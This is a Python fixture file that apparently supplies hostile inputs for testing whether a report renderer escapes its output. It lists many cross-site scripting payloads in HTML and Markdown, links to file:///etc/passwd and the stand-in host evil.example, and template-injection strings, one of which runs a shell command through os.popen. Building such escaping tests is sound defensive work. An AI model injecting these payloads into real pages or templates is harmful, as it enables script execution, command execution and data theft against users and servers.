"""Texts that would act if a report let them: markup, scripts, links, styles, encodings, Markdown."""

from __future__ import annotations

HTML = r'''
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src="data:,alert(1)"></script>
<script>/*--></script>alert(1)//*/
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><set attributeName=onmouseover value=alert(1)>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style>@import url(//evil.example)</style></svg>
</svg><img src=x onerror=alert(1)>
</text></svg><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x:x" onerror="alert(String.fromCharCode(88,83,83))">
<img/src/onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src=`x`onerror=alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img srcset="//evil.example/a 1x">
<image src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe/onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="//evil.example/x.html"></object>
<embed src="javascript:alert(1)">
<embed code="//evil.example/x.swf" allowscriptaccess=always>
<applet code="x.class"></applet>
<base href="//evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<link rel="preload" as="image" href="//evil.example/x">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)>
</details><details open ontoggle=alert(1)>
</summary><script>alert(1)</script>
<marquee onstart=alert(1)>
<video><source onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<track src=x onerror=alert(1)>
<table background="javascript:alert(1)">
</td></tr></table><script>alert(1)</script>
<td background="javascript:alert(1)">
<div style="background-image:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<style>body{background:url(//evil.example)}</style>
<style>@import '//evil.example/x.css';</style>
<xss style="behavior:url(xss.htc)">
<isindex type=image src=1 onerror=alert(1)>
<math><mtext></mtext><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example" target=_blank>x</a>
<a onclick=alert(1)>x</a>
<p/onclick=alert(1)>x
<br size="&{alert(1)}">
<bgsound src="javascript:alert(1)">
<frameset><frame src="javascript:alert(1)"></frameset>
<layer src="//evil.example/x"></layer>
<xml src="//evil.example/x"></xml>
<portal src="//evil.example/x"></portal>
<slot onslotchange=alert(1)>
<dialog open onclose=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" style="position:fixed;inset:0" x="
x" id="content" class="verdict" x="
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml;base64,PHN2Zy8+
vbscript:msgbox(1)
file:///etc/passwd
smb://evil.example/share
//evil.example/x
https://evil.example/"onmouseover="alert(1)
https://evil.example/' onmouseover='alert(1)
https://evil.example/?<script>alert(1)</script>
http://evil.example/ onclick=alert(1)
mailto:a@b.c?subject=x"onclick="alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)
＜script＞alert(1)＜/script＞
{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{% raw %}<script>alert(1)</script>{% endraw %}
{# comment #}<script>alert(1)</script>
${7*7} #{7*7} <%= 7*7 %>
*/ } </style><script>alert(1)</script>
"; } body { background: url(//evil.example) } /*
\"; } @import '//evil.example'; /*
url(#hatch-bad) expression(alert(1))
]]><script>alert(1)</script>
'''.strip("\n").splitlines()

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](java&#115;cript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](file:///etc/passwd)
[x](smb://evil.example/x)
[x](//evil.example)
[x](https://evil.example "onclick=alert(1)")
[x](https://evil.example/" onmouseover="alert(1))
![x](https://evil.example/pixel.png)
![x](javascript:alert(1))
![x][r]
[r]: javascript:alert(1)
[r]: https://evil.example/ "t"
[x][r]
<javascript:alert(1)>
<https://evil.example/?"onclick="alert(1)>
<script>alert(1)</script>
**<img src=x onerror=alert(1)>**
`<script>alert(1)</script>`
``` "><script>alert(1)</script>
~~~ x onclick=alert(1)
# heading
## Verdict
=====
-----
***
---
> quote <script>alert(1)</script>
- list
1. list
1986. A great year
+ plus
| a | b |
|---|---|
| -- | :-: |
a | b | c | d | e | f | g
\| a \| b \\| c
\\\| \\\\| |
`a|b` | c
[^1] [^1]: foot
- [ ] task
:smile: @everyone #1 GH-1
https://evil.example/x www.evil.example a@evil.example
<details><summary>x</summary>
<!-- hidden -->
&nbsp;&copy;&#124;
$x$ $$x$$ \(x\)
~~gone~~ ==mark== ^sup^ ~sub~
{.class #id onclick=alert(1)}
\
\\
*
_
`
|
||
||||||||
""".strip("\n").splitlines()

ALL = HTML + MARKDOWN
